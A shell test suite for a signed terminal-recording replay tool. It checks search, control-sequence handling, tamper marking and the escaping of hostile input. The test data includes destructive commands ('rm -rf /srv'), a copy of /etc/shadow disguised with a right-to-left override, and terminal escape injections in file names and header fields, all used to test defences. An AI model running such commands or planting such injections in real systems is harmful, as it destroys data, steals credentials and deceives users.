[ "$(cat out.txt)" = "$SID 0:00:00.001 streams.tgr: downloading partial file" ] ||
	tg_fail "search: a stdout line split by stderr output: $(cat out.txt)"
expect 0 "$R" -c conf search 'warning' streams.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.002 streams.tgr: warning: slow link" ] ||
	tg_fail "search: a stderr line: $(cat out.txt)"
expect 0 "$R" -c conf search 'parwarning|slowtial' streams.tgr
[ ! -s out.txt ] || tg_fail "search: stdout and stderr joined in one line: $(cat out.txt)"
# ... in work that grows with the output, not with the lines in progress: a command writing its
# stdout and stderr in turns on one long line each (3 MB in 6-byte records: well under a
# second, where putting a stream's line aside at each turn took about 4 s per MB: four times
# the turns, sixteen times the work)
python3 -c "import sys
for i in range(250000): sys.stdout.write('out %d o%04d\\nerr %d e%04d\\n' % (1000 + 2 * i, i % 10000, 1001 + 2 * i, i % 10000))
print('out 9000000 o\\\\n'); print('err 9000000 e\\\\n'); print('seal 9000000 {}')" >alternate.txt
"$G" script k/signing.key alternate.tgr session=$SID mode=command command=x term= cols=0 rows=0 \
	<alternate.txt || tg_fail "make alternate.tgr"
expect 0 "$R" -c conf search 'e2499o|o2499e' alternate.tgr
[ ! -s out.txt ] || tg_fail "search: stdout and stderr joined in one line: $(cut -c1-80 out.txt)"
expect 0 "$R" -c conf search '^e0000e0001e' alternate.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 alternate.tgr: $(printf 'e%04d' $(seq 0 79))..." ] ||
	tg_fail "search: a stderr line written in turns with stdout: $(cut -c1-80 out.txt)"
rm -f alternate.txt alternate.tgr
for n in 10000 40000; do
	python3 -c "import sys
for i in range($n): sys.stdout.write('out %d o%04d\\nerr %d e%04d\\n' % (1000 + 2 * i, i % 10000, 1001 + 2 * i, i % 10000))
print('seal 9000000 {}')" >"alternate$n"
done
GROWS_GEN="mode=command command=x term= cols=0 rows=0" \
	grows "search: four times the turns of stdout and stderr on one line" 60 'e2499o|o2499e' \
	alternate10000 alternate40000
# a C1 control written as UTF-8 is one to a UTF-8 terminal (U+009B is CSI, U+009D OSC,
# U+009C ST): its sequence is removed as its ESC form is, and hides no text from a search;
# the other characters of U+0080..U+00FF (the copyright sign) are text
printf 'out 1000 pass\\xc2\\x9b1mword\\xc2\\x9b0m is \\xc2\\x9d0;t\\xc2\\x9cset \\xc2\\xa9\\xc2\\xc2\\x9bK 2026\\r\\n\nseal 2000 {}\n' >c1csi.txt
"$G" script k/signing.key c1csi.tgr session=$SID <c1csi.txt || tg_fail "make c1csi.tgr"
expect 0 "$R" -c conf search 'password is set' c1csi.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 c1csi.tgr: password is set $(printf '\302\251')\\xc2 2026" ] ||
	tg_fail "search: a UTF-8 C1 control sequence left in the text: $(cat out.txt)"
# ... and so is an 8-bit one outside a character, as play's guard reads it (0x9d an OSC,
# which the BEL ends): the letters after it are on the screen, and searched; a 0x9b inside a
# character (U+201B) is text
printf 'out 1000 \\x9d\\xc2\\x9b\\x07r\\x9d\\xc2\\x9b\\x07m -rf /srv \\xe2\\x80\\x9b\\r\\n\nseal 2000 {}\n' >c18.txt
"$G" script k/signing.key c18.tgr session=$SID <c18.txt || tg_fail "make c18.tgr"
expect 0 "$R" -c conf search 'rm -rf' c18.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 c18.tgr: rm -rf /srv $(printf '\342\200\233')" ] ||
	tg_fail "search: text after an 8-bit C1 control hidden: $(cat out.txt)"
# erase in line (CSI K: to the end, 0 or none; from the start to the cursor, 1; all of it,
# 2; as ESC [ and as U+009B) is applied as a terminal applies it: what it erased is not on
# the screen, a blank it leaves before text is a space, and one at the line's end nothing;
# what it erased is found in the line as it was before, each character that went once
printf '%s\n' 'out 1000 progress 10%\r\e[Kdone\r\n' 'out 2000 abcdef\r\e[0Kxy\r\n' \
	'out 3000 abcdef\x08\x08\x08\e[1Kz\r\n' 'out 4000 abcdef\e[2K\rdone\r\n' \
	'out 5000 old\xc2\x9b2K\rnew\r\n' 'out 6000 caf\xc3\xa9s\x08\x08\e[1K!\r\n' 'seal 7000 {}' >erase.txt
"$G" script k/signing.key erase.tgr session=$SID <erase.txt || tg_fail "make erase.tgr"
expect 0 "$R" -c conf search '.' erase.tgr
[ "$(cut -d' ' -f2- out.txt | uniq -c | sed 's/^ *//')" = "12 0:00:00.001 erase.tgr: progress 10%
4 0:00:00.001 erase.tgr: done
6 0:00:00.002 erase.tgr: abcdef
2 0:00:00.002 erase.tgr: xy
4 0:00:00.003 erase.tgr: abcdef
6 0:00:00.003 erase.tgr:    zef
6 0:00:00.004 erase.tgr: abcdef
4 0:00:00.004 erase.tgr: done
3 0:00:00.005 erase.tgr: old
3 0:00:00.005 erase.tgr: new
4 0:00:00.006 erase.tgr: caf$(printf '\303\251')s
5 0:00:00.006 erase.tgr:    !s" ] || tg_fail "search: erase in line not applied: $(cat out.txt)"
expect 0 "$R" -c conf search '^done$' erase.tgr
[ "$(wc -l <out.txt)" -eq 2 ] || tg_fail "search '^done\$' after an erase in line: $(cat out.txt)"
# text shown and then erased or written over before its line ended (a token wiped with a
# carriage return and CSI K, a password echoed and wiped with backspaces and spaces, a
# progress line drawn again) is found as cat and play show it, at the time it was shown, and
# what is still there in the line as it ended is said once, of that line
printf '%s\n' 'out 1000 secret-token\r\e[K' 'out 2000 done\r\n' 'out 3000 Password: h' 'out 3100 unter2' \
	'out 4000 \x08\x08\x08\x08\x08\x08\x08       \x08\x08\x08\x08\x08\x08\x08' 'out 5000 ok\r\n' \
	'out 6000 progress 10%\r' 'out 7000 progress 20%\r' 'out 8000 progress 100%\r\n' 'out 9000 tail\e[2K' \
	'seal 9500 {}' >wiped.txt
"$G" script k/signing.key wiped.tgr session=$SID <wiped.txt || tg_fail "make wiped.tgr"
for re in 'secret-token~0.001 wiped.tgr: secret-token' 'hunter2~0.003 wiped.tgr: Password: hunter2' \
	'tail~0.009 wiped.tgr: tail' 'Password: ok~0.003 wiped.tgr: Password: ok     ' \
	'^done$~0.002 wiped.tgr: done' 'progress~0.008 wiped.tgr: progress 100%'; do
	expect 0 "$R" -c conf search "${re%%~*}" wiped.tgr
	[ "$(cat out.txt)" = "$SID 0:00:0${re#*~}" ] || tg_fail "search '${re%%~*}' of text that went: $(cat out.txt)"
done
expect 0 "$R" -c conf search 'progress [0-9]+%' wiped.tgr
[ "$(cut -d' ' -f2- out.txt)" = "0:00:00.007 wiped.tgr: progress 10%
0:00:00.008 wiped.tgr: progress 20%
0:00:00.008 wiped.tgr: progress 100%" ] || tg_fail "search of a line drawn again: $(cat out.txt)"
rm -f wiped.txt wiped.tgr
# search_unv META PATTERN WANT WHAT LINE...: a recording of the LINEs (text, a checkpoint, more
# after it, then a crash) with the header META (such as cols=20; "": the generator's own),
# searched with --force for PATTERN: its one match says UNVERIFIED and shows WANT (WHAT: the
# case, for the failure)
search_unv() {
	su_meta=$1 su_re=$2 su_want=$3 su_what=$4
	shift 4
	printf '%s\n' "$@" 'flush' 'crash' >erase-unv.txt
	# shellcheck disable=SC2086 # META is none or one word
	"$G" script k/signing.key erase-unv.tgr session=$SID $su_meta <erase-unv.txt ||
		tg_fail "make erase-unv.tgr"
	expect 2 "$R" -c conf --force search "$su_re" erase-unv.tgr
	[ "$(cat out.txt)" = "$SID UNVERIFIED 0:00:00.001 erase-unv.tgr: $su_want" ] ||
		tg_fail "search --force: $su_what is shown as verified: $(cat out.txt)"
}
# ... and a line an erase past the verified part cut short is no verified line (--force): its
# matches say UNVERIFIED, as those with text from there do
search_unv '' 'rm -rf /$' 'rm -rf /' "a line an unverified erase cut short" \
	'out 1000 rm -rf /tmp/x' 'checkpoint 2000' 'out 3000 \x08\x08\x08\x08\x08\e[K' 'out 4000 \r\n'
# ... and so is one an unverified insert pushed text off (at 20 columns: 3 cells in before
# foobar, whose r goes past the last column)
search_unv cols=20 'fooba$' 'rm -rf /srv/   fooba' "a line an unverified insert cut short" \
	'out 1000 rm -rf /srv/foobar' 'checkpoint 2000' 'out 3000 \e[6D\e[3@' 'out 4000 \r\n'
# ... and so is one whose text around the match came past the verified part: the match is
# verified, the line shown is not
search_unv '' 'approved' 'wire approved by mallory' "a line with unverified text around the match" \
	'out 1000 wire approved by ' 'checkpoint 2000' 'out 3000 mallory' 'out 4000 \r\n'
# ... in work that grows with the output, not with the line erased again and again (a line
# of 16 KiB erased after each byte: well under a second, where counting the line each time
# took half a minute): twice as long a line, erased as often, is hardly more work
# long_line NAME TEXT: the scripts NAME8000 and NAME16000, a line of that many x, then TEXT
# written 20000 times on it
long_line() {
	for n in 8000 16000; do
		python3 -c "print('out 1000 ' + 'x' * $n)
for i in range(20): print('out 2000 ' + '$2' * 1000)
print('seal 3000 {}')" >"$1$n"
	done
}
long_line erase-long 'x\\e[2K'
GROWS_GEN= grows "search: a line twice as long erased as often" 15 'zz' erase-long8000 erase-long16000
# and so are the moves of the cursor on its line (CSI n G or CSI n `, to column n; CSI n D,
# n columns back; CSI n C, n forward): npm's progress line, CSI 1 G, its text and CSI 0 K,
# is what it last showed, and a column moved past the line's end is a blank
printf '%s\n' 'out 1000 npm \e[1G\e[0Kdone\r\n' 'out 2000 abc\e[2Dx\r\n' 'out 3000 ab\e[3Cx\r\n' \
	'out 4000 abcdef\e[3Gx\xc2\x9bGy\r\n' 'out 5000 x\e[5`y\r\n' 'out 6000 caf\xc3\xa9\e[Dx\e[99D!\r\n' \
	'out 7000 ab\e[1;2Gc\e[?1Dd\r\n' 'seal 8000 {}' >cursor.txt
"$G" script k/signing.key cursor.tgr session=$SID <cursor.txt || tg_fail "make cursor.tgr"
expect 0 "$R" -c conf search '.' cursor.tgr
[ "$(cut -d' ' -f2- out.txt | uniq -c | sed 's/^ *//')" = "4 0:00:00.001 cursor.tgr: npm 
4 0:00:00.001 cursor.tgr: done
1 0:00:00.002 cursor.tgr: abc
3 0:00:00.002 cursor.tgr: axc
6 0:00:00.003 cursor.tgr: ab   x
2 0:00:00.004 cursor.tgr: abcdef
6 0:00:00.004 cursor.tgr: ybxdef
5 0:00:00.005 cursor.tgr: x   y
2 0:00:00.006 cursor.tgr: caf$(printf '\303\251')
4 0:00:00.006 cursor.tgr: !afx
4 0:00:00.007 cursor.tgr: abcd" ] || tg_fail "search: cursor moves on the line not applied: $(cat out.txt)"
# ... whatever the count: CSI 1000 D, "all the way left", is how some progress lines go back
# to their start (a count past the line's start or end goes as far as it can: with no width
# known, the line is one row; else its row's last column)
printf '%s\n' 'out 1000 0%\e[1000D50%\e[1000D100%\r\n' 'out 2000 a\e[5000Cb\e[123456789Dc\r\n' \
	'seal 3000 {}' >farmove.txt
"$G" script k/signing.key farmove.tgr session=$SID cols=80 <farmove.txt || tg_fail "make farmove.tgr"
expect 0 "$R" -c conf search '^c {78}b$' farmove.tgr
[ "$(wc -l <out.txt)" -eq 1 ] || tg_fail "search: a cursor move past the row's last column: $(cut -c1-80 out.txt)"
"$G" script k/signing.key farmove.tgr session=$SID cols=0 <farmove.txt || tg_fail "make farmove.tgr"
expect 0 "$R" -c conf search '^100%$' farmove.tgr
[ "$(cut -d' ' -f2- out.txt)" = "0:00:00.001 farmove.tgr: 100%" ] ||
	tg_fail "search: a cursor move by 1000 columns: $(cat out.txt)"
expect 0 "$R" -c conf search '^c {5000}b$' farmove.tgr
[ "$(wc -l <out.txt)" -eq 1 ] || tg_fail "search: a cursor move by more columns: $(cut -c1-80 out.txt)"
rm -f farmove.txt farmove.tgr
# ... in work that grows with the output, not with the line: a move costs its count of
# columns, not a count of the line's from its start (twice as long a line, moved on as often,
# is hardly more work)
long_line cursor-long '\\e[D\\e[C'
GROWS_GEN= grows "search: cursor moves on a line twice as long" 15 'zz' cursor-long8000 cursor-long16000
# ... and a line's blanks are made spaces in one pass: lines of 15984 columns moved over and
# an x (under a second for 5000, where starting each blank's search again from the line's
# start took 5 s): four times as wide, four times the work, not sixteen
for n in 4 16; do
	python3 -c "for i in range(2): print('out %d ' % (1000 + i) + ('\\\\e[999C' * $n + 'x\\\\r\\\\n') * 100)
print('seal 9000 {}')" >"blank-lines$n"
done
GROWS_GEN=cols=0 grows "search: lines of blanks four times as wide" 60 'zz' blank-lines4 blank-lines16
# ... and so do its matches: 16000 matches on a line of 16000 characters take about the work
# the same matches take on 40 lines of 400 (without a walk of the line for each match, which
# made it 9 times as long; 3 times, walked with memchr)
python3 -c "print('out 1000 ' + 'a' * 16000 + '\\\\r\\\\n')
print('seal 9000 {}')" >many-matches
python3 -c "print('out 1000 ' + ('a' * 400 + '\\\\r\\\\n') * 40)
print('seal 9000 {}')" >many-lines
GROWS_GEN= grows "search: the matches of one long line against short lines" 15 'a' many-lines many-matches
# a 0xc2 is held to see whether a C1 control follows: one that ends a stream (the recording
# ends after it) is not UTF-8, text all the same, on either stream
printf 'out 1000 total: 5\xc2
err 2000 cost: 7\xc2
seal 3000 {}
' >c2end.txt
"$G" script k/signing.key c2end.tgr session=$SID <c2end.txt || tg_fail "make c2end.tgr"
expect 0 "$R" -c conf search '[0-9].$' c2end.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 c2end.tgr: total: 5\xc2
$SID 0:00:00.002 c2end.tgr: cost: 7\xc2" ] ||
	tg_fail "search: a 0xc2 that ends a stream is dropped: $(cat out.txt)"
# ... and one that ends a record is shown at that record's time, not at the time of the
# record whose first byte shows it is text (later, maybe past the verified part, or on the
# other stream)
printf '%s\n' 'out 1000 abc\xc2' 'err 2000000 warn\n' 'out 3000000 \r\n' 'out 4000000 n=\xc2' \
	'checkpoint 4500000' 'err 5000000 late\n' 'out 6000000 \r\n' 'flush' 'crash' >c2rec.txt
"$G" script k/signing.key c2rec.tgr session=$SID mode=command command=x term= cols=0 rows=0 \
	<c2rec.txt || tg_fail "make c2rec.tgr"
for force in "" --force; do
	expect 2 "$R" -c conf $force search '[^a-z]$' c2rec.tgr
	[ "$(cat out.txt)" = "$SID 0:00:00.001 c2rec.tgr: abc\xc2
$SID 0:00:04.000 c2rec.tgr: n=\xc2" ] || tg_fail "search $force: a 0xc2 that ends a record: $(cat out.txt)"
	# ... and a match that ends in it is as verified as it is
	expect 2 "$R" -c conf $force search '=.$' c2rec.tgr
	[ "$(cat out.txt)" = "$SID 0:00:04.000 c2rec.tgr: n=\xc2" ] ||
		tg_fail "search $force: a match that ends in a 0xc2: $(cat out.txt)"
done
# a line longer than a search piece (16 KiB of text; the second one here written by 70000
# records) is searched in pieces that overlap: a match across the cut is found, once
python3 - <<'PY' >longline.txt
print("out 1000 " + "." * 16380 + "NEEDLE IN A HAYSTACK" + "." * 16400 + "\\r\\n")
for i in range(70000):
    print("out %d %s" % (2000 + i, "NEEDLE.IN.A.HAYSTACK"[i - 65525] if 65525 <= i < 65545 else "x"))
print("seal 100000 {}")
PY
"$G" script k/signing.key longline.tgr session=$SID <longline.txt || tg_fail "make longline.tgr"
expect 0 "$R" -c conf search 'NEEDLE.IN.A.HAYSTACK' longline.tgr
[ "$(cut -d" " -f1,2 out.txt)" = "$SID 0:00:00.001
$SID 0:00:00.067" ] || tg_fail "search: a match across a piece of a long line: $(cut -c1-80 out.txt)"
# ... and a match in the part two pieces share is reported once
python3 - <<'PY' >overlap.txt
print("out 1000 " + "." * 15000 + "NEEDLE" + "." * 5000 + "NEEDLE" + "." * 20000 + "NEEDLE\\r\\n")
print("seal 5000 {}")
PY
"$G" script k/signing.key overlap.tgr session=$SID <overlap.txt || tg_fail "make overlap.tgr"
for re in NEEDLE 'NEE.LE'; do
	expect 0 "$R" -c conf search "$re" overlap.tgr
	[ "$(wc -l <out.txt)" -eq 3 ] || tg_fail "search $re: not 3 matches: $(cut -c1-80 out.txt)"
done
# ... and a piece after the first is not the line's start, nor a cut its end: '^' and '$'
# match there only where the line starts and ends, and what is shown of it starts with ...
python3 - <<'PY' >anchors.txt
print("out 1000 x" + "A" * 20000 + "B\\r\\n")
print("out 2000 " + "C" * 20000 + "D\\r\\n")
print("seal 5000 {}")
PY
"$G" script k/signing.key anchors.tgr session=$SID <anchors.txt || tg_fail "make anchors.tgr"
for re in '^A+B' '^A' 'C$' '^D'; do
	expect 0 "$R" -c conf search "$re" anchors.tgr
	[ ! -s out.txt ] || tg_fail "search $re: matched at a piece's cut: $(cut -c1-80 out.txt)"
done
expect 0 "$R" -c conf search 'A+B' anchors.tgr
grep -q "^$SID 0:00:00.001 anchors.tgr: \.\.\.AA*\.\.\.$" out.txt ||
	tg_fail "search A+B: a piece shown as the line's start: $(cut -c1-80 out.txt)"
# ... and one shown up to the end of a piece cut before its line's end says so too
python3 -c "print('out 1000 ' + 'x' * 16300 + 'NEEDLE' + 'y' * 5000 + '\\\\r\\\\n'); print('seal 2000 {}')" >cutshow.txt
"$G" script k/signing.key cutshow.tgr session=$SID <cutshow.txt || tg_fail "make cutshow.tgr"
expect 0 "$R" -c conf search 'NEEDLE' cutshow.tgr
grep -q "^$SID 0:00:00.001 cutshow.tgr: \.\.\.x*NEEDLEy*\.\.\.$" out.txt ||
	tg_fail "search: a match shown to a piece's cut: $(cut -c1-60 out.txt)...$(tail -c 20 out.txt)"
expect 0 "$R" -c conf search '^xA|D$' anchors.tgr
[ "$(wc -l <out.txt)" -eq 2 ] || tg_fail "search '^xA|D\$': $(cut -c1-80 out.txt)"
# each recording is searched afresh: one whose stderr ends inside an escape sequence (an OSC
# string never ended) does not swallow the next one's stderr
printf 'out 1000 a\\n\nerr 2000 \\e]0;cut\nseal 3000 {}\n' >cutosc.txt
"$G" script k/signing.key cutosc.tgr session=$SID mode=command command=x <cutosc.txt ||
	tg_fail "make cutosc.tgr"
expect 0 "$R" -c conf search 'warning' cutosc.tgr streams.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.002 streams.tgr: warning: slow link" ] ||
	tg_fail "search: the recording before hid a stderr line: $(cat out.txt)"
# bytes that are not UTF-8 (a Latin-1 file name) are characters to a regex in a UTF-8
# locale as in any other: '.' matches them, and '.*' reaches past them
for loc in C.UTF-8 C; do
	expect 0 env LC_ALL=$loc "$R" -c conf search 'secret.+\.txt$' good.tgr
	[ "$(cat out.txt)" = "$SID 0:00:01.200 good.tgr: config  notes.txt  secret\\xff\\xfe.txt" ] ||
		tg_fail "search ($loc): a line with bytes that are not UTF-8: $(cat out.txt)"
done
# ... and a character of the text is one character to it in any locale too: a script run
# with LANG=C finds what a search at a UTF-8 prompt finds
for loc in C.UTF-8 C POSIX; do
	expect 0 env LC_ALL=$loc "$R" -c conf search 'hunter2 .{4}$' good.tgr
	[ "$(cat out.txt)" = "$SID 0:00:03.100 good.tgr: the password is hunter2 café" ] ||
		tg_fail "search ($loc): a UTF-8 character is not one to the regex: $(cat out.txt)"
done
# (a pattern that is not UTF-8, raw bytes typed at a C locale, still matches those bytes)
printf 'out 1000 caf\\xe9 latin\\r\\n\nseal 2000 {}\n' >latin.txt
"$G" script k/signing.key latin.tgr session=$SID <latin.txt || tg_fail "make latin.tgr"
expect 0 env LC_ALL=C "$R" -c conf search "$(printf 'caf\351.*')" latin.tgr
[ "$(cat out.txt)" = "$SID 0:00:00.001 latin.tgr: caf\\xe9 latin" ] || tg_fail "search (C) of raw bytes: $(cat out.txt)"
expect 0 env LC_ALL=C.UTF-8 "$R" -c conf search 'secret[^.]{2}\.txt' good.tgr
grep -q "secret" out.txt || tg_fail "search: [^.] does not match a byte that is not UTF-8"
# a tampered recording is refused, as cat refuses it; --force shows it, under a warning
expect 1 "$R" -c conf search 'hunteX2' tampered.tgr
if grep -q "hunteX2" out.txt; then tg_fail "search tampered: a forged match was printed"; fi
grep -q "refused" err.txt || tg_fail "search tampered: not refused: $(cat err.txt)"
expect 1 "$R" -c conf --force search 'hunteX2' tampered.tgr
grep -q "hunteX2" out.txt || tg_fail "search tampered --force: the match is not printed"
grep -q "not all verified" err.txt || tg_fail "search tampered --force: no warning"
# ... and each match from past the verified part says so on its line, as info marks notes
grep -q "^$SID UNVERIFIED 0:00:03.100 tampered.tgr: the password is hunteX2" out.txt ||
	tg_fail "search tampered --force: the forged match is not marked: $(cat out.txt)"
expect 2 "$R" -c conf --force search 'after the last checkpoint|cat notes' unsealed.tgr
grep -q "^$SID 0:00:03.000 unsealed.tgr: alice@web-1\$ cat notes.txt$" out.txt ||
	tg_fail "search unsealed --force: a verified match: $(cat out.txt)"
grep -q "^$SID UNVERIFIED 0:00:04.000 unsealed.tgr: after the last checkpoint$" out.txt ||
	tg_fail "search unsealed --force: the unverified match is not marked: $(cat out.txt)"
# an unsealed one is searched up to its last checkpoint only
expect 2 "$R" -c conf search 'after the last checkpoint' unsealed.tgr
[ ! -s out.txt ] || tg_fail "search unsealed: the unverified tail was searched: $(cat out.txt)"

# --- what a recording says never reaches the terminal as controls
"$G" script k/signing.key esc.tgr "command=ls $(printf '\033')]0;PWNED$(printf '\007')$(printf '\033')[2J" \
	"user=eve$(printf '\033')[31m" <"$DATA/replay-session.txt" || tg_fail "make esc.tgr"
expect 0 "$R" -c conf info esc.tgr
if grep -q "$(printf '\033')" out.txt; then tg_fail "info printed an escape: $(od -c out.txt | head)"; fi
grep -q 'ls \\x1b\]0;PWNED\\x07\\x1b\[2J' out.txt || tg_fail "info: command not shown escaped: $(cat out.txt)"
mkdir escdir && cp esc.tgr escdir/ || tg_fail "escdir"
expect 0 "$R" -c conf list escdir
if grep -q "$(printf '\033')" out.txt; then tg_fail "list printed an escape: $(od -c out.txt | head)"; fi
grep -q 'eve\\x1b\[31m' out.txt || tg_fail "list: user not shown escaped: $(cat out.txt)"
# a file name is shown escaped too: in verify's error line and in play's --force banner
evil="x$(printf '\033')]0;PWNED$(printf '\007')"
expect 3 "$R" -c conf verify "$evil.tgr"
if grep -q "$(printf '\033')]0;PWNED" out.txt; then tg_fail "verify printed a file name raw: $(od -c out.txt)"; fi
grep -q '^x\\x1b\]0;PWNED\\x07\.tgr: error: ' out.txt || tg_fail "verify error line: $(cat out.txt)"
cp tampered.tgr "$evil.tgr"
expect 1 "$R" -c conf --force play --speed 64 --idle-limit 0.001 "$evil.tgr"
if grep -q "$(printf '\033')]0;PWNED" out.txt; then tg_fail "play printed a file name raw: $(od -c out.txt | head)"; fi
grep -q 'tollgate-replay: x\\x1b\]0;PWNED\\x07\.tgr is TAMPERED' out.txt || tg_fail "play banner: $(cat out.txt)"
# JSON escapes C0 controls itself, but lets C1 controls (U+009B is CSI to a UTF-8 xterm) and
# DEL through raw: info --json and export must not print them raw either
printf 'out 1000 csi \\xc2\\x9b2J del \\x7f\\r\\n\nnote 1500 {"command":"\\u009b2J\\u007f"}\nseal 2000 {}\n' >c1.txt
"$G" script k/signing.key c1.tgr "command=ls $(printf '\302\233')2J$(printf '\177')" <c1.txt ||
	tg_fail "make c1.tgr"
no_c1() { # no_c1 WHAT: out.txt holds no raw C1 control or DEL, and is JSON lines with $2 in them
	python3 - out.txt "$2" <<'PY' || tg_fail "$1 printed a raw C1 control or DEL: $(od -c out.txt | head -20)"
import json, re, sys
raw = open(sys.argv[1], "rb").read()
assert not re.search(rb"\xc2[\x80-\x9f]|\x7f", raw)
text = raw.decode("utf-8")
try:
    docs = [json.loads(text)]
except ValueError:
    docs = [json.loads(l) for l in text.splitlines()]
assert sys.argv[2].encode("ascii").decode("unicode_escape") in json.dumps(docs, ensure_ascii=False)
PY
}
expect 0 "$R" -c conf info --json c1.tgr
no_c1 "info --json" "ls \u009b2J\u007f"
# (--raw: the guard withholds the C1 CSI itself from an export without it)
expect 0 "$R" -c conf export --raw --format asciicast c1.tgr
no_c1 "export" "csi \u009b2J del \u007f"
# a command that holds a right-to-left override (U+202E) reads "back.txt" on a terminal that does
# bidi, where the file is "<U+202E>txt.kcab": info shows the character escaped, and so does JSON
printf 'out 1000 hi\\r\\n\nseal 2000 {}\n' >bidi.txt
"$G" script k/signing.key bidi.tgr "command=cp /etc/shadow /tmp/$(printf '\342\200\256')txt.kcab" <bidi.txt ||
	tg_fail "make bidi.tgr"
for json in "" --json; do
	expect 0 "$R" -c conf info $json bidi.tgr
	if grep -q "$(printf '\342\200\256')" out.txt; then tg_fail "info $json printed U+202E raw: $(od -c out.txt | head)"; fi
	grep -qF '/tmp/\u202etxt.kcab' out.txt || tg_fail "info $json: the command not escaped: $(cat out.txt)"
done
# the guard ends a DCS string at a raw 0x9C, also the middle byte of a character (U+273C is
# e2 9c bc): what is left of it (bc) becomes U+FFFD, and the export goes on, valid JSON
printf 'out 1000 a\\x1bP\\xe2\\x9c\\xbcb\\r\\n\nout 2000 after\\r\\n\nseal 3000 {}\n' >dcs.txt
"$G" script k/signing.key dcs.tgr <dcs.txt || tg_fail "make dcs.tgr"
expect 0 "$R" -c conf export --format asciicast dcs.tgr
python3 - out.txt <<'PY' || tg_fail "export of a string ended inside a character: $(od -c out.txt | head -20; cat err.txt)"
import json, sys
lines = open(sys.argv[1], "rb").read().decode("utf-8").splitlines()
out = "".join(json.loads(l)[2] for l in lines[1:] if json.loads(l)[1] == "o")
assert out == "a\ufffdb\r\nafter\r\n", repr(out)
PY
grep -q '1 invalid UTF-8 sequence' err.txt || tg_fail "export: the U+FFFD not said: $(cat err.txt)"
rm -f dcs.txt dcs.tgr

# --- what is shown is what was verified: a FIFO cannot be read twice the same
mkfifo swap.fifo
# (timeout: a writer still waiting to open the FIFO after the test is done with it ends)
( timeout 20 sh -c 'cat good.tgr >swap.fifo'; timeout 20 sh -c 'cat tampered.tgr >swap.fifo' ) 2>/dev/null &
swap=$!
expect 3 "$R" -c conf cat swap.fifo
grep -q "not a regular file" err.txt || tg_fail "cat of a FIFO: $(cat err.txt)"
kill "$swap" 2>/dev/null
exec 3<>swap.fifo; exec 3>&- # unblock the writer, if it is still waiting
wait "$swap" 2>/dev/null
rm -f swap.fifo
# a folder is said to be one, not a file that could not be read again
mkdir afolder
for cmd in cat play "export --format asciicast"; do
	# shellcheck disable=SC2086 # cmd holds several words
	expect 3 "$R" -c conf $cmd afolder
	one_line "^tollgate-replay: afolder: is a folder, not a recording (verify, search and list take a folder)$"
done
mkfifo lonely.fifo # and one with no writer is refused, not waited on
expect 3 timeout 20 "$R" -c conf cat lonely.fifo
rm -f lonely.fifo
expect 3 "$R" -c conf search '(' good.tgr
# the time printed is one play --from takes
expect 0 "$R" -c conf play --speed 64 --from 1:02:03.456 good.tgr
grep -q "late line" out.txt || tg_fail "play --from a search time: $(od -c out.txt | head)"
if grep -q "the pass" out.txt; then :; else tg_fail "play --from: the past is rendered first"; fi

# --- play without a terminal: the same bytes as cat, within --from/--to
expect 0 "$R" -c conf play --idle-limit 0.001 --speed 64 good.tgr
"$R" -c conf cat good.tgr >cat.txt
cmp -s out.txt cat.txt || tg_fail "play (no tty) differs from cat"
expect 0 "$R" -c conf play --idle-limit 0.001 --to 2.5 good.tgr
grep -q "ls" out.txt || tg_fail "play --to"
if grep -q "hunter2" out.txt; then tg_fail "play --to went past 2.5 s"; fi
expect 1 "$R" -c conf play tampered.tgr
# with its timing: output that came fast plays as fast, not at a millisecond a record (the
# granularity of a poll timeout): 5000 records 10 us apart are 50 ms, some 50 waits of a
# millisecond, not 5000. Counted in the waits play makes (strace), not timed: a slow
# machine only makes each wait overrun more, and so fewer of them
python3 -c "
for i in range(5000): print('out %d line %d\\\\r\\\\n' % (i * 10, i))
print('seal 50000 {}')" >burst.txt
"$G" script k/signing.key burst.tgr session=$SID <burst.txt || tg_fail "make burst.tgr"
if command -v strace >/dev/null 2>&1; then
	expect 0 strace -f -c -o waits.txt -e trace=poll,ppoll,select,pselect6,nanosleep,clock_nanosleep \
		"$R" -c conf play burst.tgr
	waits=$(awk '$NF ~ /^(poll|ppoll|select|pselect6|nanosleep|clock_nanosleep)$/ { n += $4 }
		END { print n + 0 }' waits.txt)
	[ "$waits" -lt 500 ] || tg_fail "play of 5000 records 10 us apart waited $waits times: $(cat waits.txt)"
	rm -f waits.txt
else
	echo "no strace: the waits of play are not counted" >&2
	expect 0 "$R" -c conf play burst.tgr
fi
"$R" -c conf cat burst.tgr >burst-cat.txt
cmp -s out.txt burst-cat.txt || tg_fail "play of a burst differs from cat"
# output that cannot be written stops play at once with an I/O error, not an hour later
# with 0 (a closed pipe as a full disk: SIGPIPE is ignored while the terminal is changed)
if [ -w /dev/full ]; then
	printf 'out 0 first\\r\\n\nout 3600000000 an hour later\\r\\n\nseal 3600000000 {}\n' >hour.txt
	"$G" script k/signing.key hour.tgr session=$SID <hour.txt || tg_fail "make hour.tgr"
	timeout 20 "$R" -c conf play hour.tgr >/dev/full 2>err.txt
	got=$?
	[ "$got" -eq 3 ] || tg_fail "play to a full disk exited $got, expected 3"
	grep -q "stdout" err.txt || tg_fail "play to a full disk: not said: $(cat err.txt)"
fi

# --- list: one line a session
mkdir -p spool/sessions
cp good.tgr spool/sessions/a.tgr
cp unsealed.tgr spool/sessions/b.tgr
cp tampered.tgr spool/sessions/c.tgr
: >spool/sessions/.tmp.x
echo x >spool/sessions/ignored.json
expect 1 "$R" -c conf list spool
[ "$(grep -c "alice" out.txt)" -eq 3 ] || tg_fail "list: $(cat out.txt)"
grep -q "1:02:03.600 .*sealed .*a.tgr" out.txt || tg_fail "list a: $(cat out.txt)"
grep -q "UNSEALED .*b.tgr" out.txt || tg_fail "list b"
grep -q "TAMPERED .*c.tgr" out.txt || tg_fail "list c"
[ ! -s err.txt ] || tg_fail "list: $(cat err.txt)"
# a header edited (the user, same length): no checkpoint covers it, so its claims are not shown
python3 -c 'import sys
d = open("good.tgr", "rb").read()
assert d.count(b"\"user\":\"alice\"") >= 1
open("spool/sessions/d.tgr", "wb").write(d.replace(b"\"user\":\"alice\"", b"\"user\":\"mallo\"", 1))'
expect 1 "$R" -c conf list spool
